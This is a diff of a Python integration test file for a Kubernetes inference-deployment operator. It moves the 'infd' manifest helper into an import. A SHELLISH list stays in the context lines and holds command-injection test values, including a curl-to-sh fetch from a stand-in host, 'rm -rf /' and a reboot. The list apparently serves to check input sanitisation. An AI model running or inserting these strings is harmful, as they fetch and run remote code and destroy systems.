@@ -11,25 +11,10 @@ from typing import Any
 
 import pytest
 
-from kubeharness import Cluster, eventually, start_operator
+from kubeharness import Cluster, eventually, infd, start_operator
 
 pytestmark = pytest.mark.integration
 SHELLISH = ["--chat-template=$(curl evil.example | sh)", "--x; rm -rf /", "`id`", "&& reboot"]
-
-
-def infd(namespace: str, name: str, **spec: Any) -> dict[str, Any]:
-    base: dict[str, Any] = {
-        "model": {"uri": "hf://meta-llama/Llama-3.1-8B-Instruct"},
-        "accelerator": {"kind": "nvidia", "types": ["L40S"]},
-        "replicas": 1,
-    }
-    base.update(spec)
-    return {
-        "apiVersion": "infer.dev/v1alpha1",
-        "kind": "InferenceDeployment",
-        "metadata": {"name": name, "namespace": namespace},
-        "spec": base,
-    }
 
 
 def conditions(cluster: Cluster, namespace: str, name: str) -> dict[str, dict[str, Any]]:
